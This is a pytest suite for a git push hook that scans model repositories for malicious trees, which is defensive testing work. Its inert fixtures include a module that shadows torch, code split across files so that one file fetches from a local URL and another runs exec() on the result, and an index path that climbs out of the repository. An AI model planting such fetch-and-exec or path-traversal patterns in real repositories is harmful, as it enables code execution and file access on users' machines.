"""The tree verdict at the hook: each new tip is judged as a whole, the reason names ref, file and rule."""
import json

import pytest

from gate import hubgate
from hub.samples import CONFIG, as_json, safetensors
from hub.store import make_pointer
from servers import BareRepository
from test_hook import WorkingCopy, assert_refused

SHADOW = b'print("hubgate-inert-marker")\n'
TRAIN = b"import torch\n\nprint(torch.__version__)\n"
SPLIT_SOURCE = b"import requests\n\n\ndef fetch():\n    return requests.get('http://127.0.0.1:9/x', timeout=1).text\n"
INDEX = as_json({"metadata": {"total_size": 32}, "weight_map": {"a": "../../victim/model.safetensors"}})
REMOTE = as_json(CONFIG | {"auto_map": {"AutoModel": "somebody/else--modeling_demo.DemoModel"}})


@pytest.fixture
def server(tmp_path):
    return BareRepository(tmp_path)


@pytest.fixture
def work(tmp_path):
    return WorkingCopy(tmp_path)


def audit(server):
    return [json.loads(line) for file in sorted((server.data / "audit").glob("*.jsonl")) for line in file.read_text().splitlines()]


def test_a_shadowing_module_is_refused_with_ref_path_and_finding(server, work):
    work.commit({"README.md": b"# hi\n"})
    assert work.push(server).ok
    commit = work.commit({"torch.py": SHADOW, "train.py": TRAIN})
    run = work.push(server)
    assert_refused(run, "refs/heads/main", commit[:8], "torch.py", "tree-shadow-module", "waiver", "policy rule malicious")
    assert any("tree-shadow-module" in line.get("findings", []) and line["path"] == "torch.py" for line in audit(server))
    work.commit({"torch.py": None})
    assert work.push(server, "HEAD:refs/heads/other").ok


def test_a_later_file_completes_the_attack(server, work):
    """Each push alone is harmless; the tip of the second is not."""
    work.commit({"torch.py": SHADOW, "model.safetensors": safetensors({"a": 16})})
    assert work.push(server).ok
    work.commit({"train.py": TRAIN})
    assert_refused(work.push(server), "torch.py", "tree-shadow-module")


def test_code_that_is_split_over_files_is_refused_with_its_path(server, work):
    """What one file downloads another one runs; it comes in two pushes, and none is anything alone."""
    work.commit({"data.py": SPLIT_SOURCE, "README.md": b"# hi\n"})
    assert work.push(server).ok
    work.commit({"train.py": b"from data import fetch\n\nprint(len(fetch()))\n"})
    run = work.push(server)
    assert run.ok, run.output
    work.commit({"mine.py": b"from .data import fetch\n\nexec(fetch())\n"})
    assert_refused(work.push(server), "mine.py", "python-execution", "data.py:5", "mine.py:3")


def test_suspicious_trees_pass_with_a_warning_under_guarded(server, work):
    work.commit({"config.json": REMOTE})
    run = work.push(server)
    assert run.ok, run.output
    assert "hubgate: warning: config.json: tree-remote-code" in run.output, run.output


def test_an_index_that_leads_out_is_refused(server, work):
    work.commit({"sub/model.safetensors.index.json": INDEX.replace(b"../../", b"../../../")})
    assert_refused(work.push(server), "sub/model.safetensors.index.json")


def test_strict_refuses_them(tmp_path, work):
    server = BareRepository(tmp_path, "--policy", "strict")
    work.commit({"config.json": REMOTE})
    assert_refused(work.push(server), "config.json", "tree-remote-code")


def test_a_waiver_lets_the_tree_pass_and_it_is_not_asked_again(server, work):
    work.commit({"torch.py": SHADOW, "train.py": TRAIN})
    run = work.push(server)
    assert_refused(run, "tree-shadow-module")
    key = next(line["sha256"] for line in audit(server) if "tree-shadow-module" in line.get("findings", []))
    done = hubgate("waiver", "add", key, "--rules", "tree-shadow-module", "--reason", "a test", "--data", server.data)
    assert done.returncode == 0, done.stderr
    run = work.push(server)
    assert run.ok, run.output
    work.commit({"README.md": b"# more\n"})
    assert work.push(server).ok, "what the branch said before is not held against the next push"


def test_a_pointer_is_judged_as_its_object(server, work):
    data = safetensors({"a": 16})
    work.commit({"model.safetensors": make_pointer(server.put_lfs(data), len(data)), "vocabulary.pkl": b"\x80\x04]."})
    run = work.push(server)
    assert run.ok, run.output
    assert "tree-" not in run.output, run.output


# OpenVINO IR: the constants lie in a .bin beside it, which is nothing but numbers.
IR = b"""<?xml version="1.0"?>
<net name="m" version="11"><layers>
<layer id="0" name="w" type="Const" version="opset1"><data element_type="f32" shape="16" offset="0" size="64"/>
<output><port id="0" precision="FP32"><dim>16</dim></port></output></layer>
</layers><edges/></net>
"""
NUMBERS = bytes((37 * i + 11) % 251 + 1 for i in range(64))


def test_numbers_pass_beside_what_describes_them(tmp_path, work):
    server = BareRepository(tmp_path, "--policy", "strict")
    work.commit({"model.bin": NUMBERS})
    assert_refused(work.push(server), "model.bin", "opaque")
    work.commit({"model.xml": IR})
    run = work.push(server)
    assert run.ok, run.output
    assert work.push(server, "HEAD:refs/heads/again").ok
    work.commit({"model.bin": NUMBERS + b"\x01\x02"})
    assert_refused(work.push(server), "model.bin", "opaque")


def test_links_and_submodules(server, work):
    head = work.commit({"README.md": b"# hi\n"})
    work.git("update-index", "--add", "--cacheinfo", f"160000,{head},vendor")
    work.git("commit", "-qm", "module")
    run = work.push(server)
    assert run.ok and "submodule" in run.output, run.output
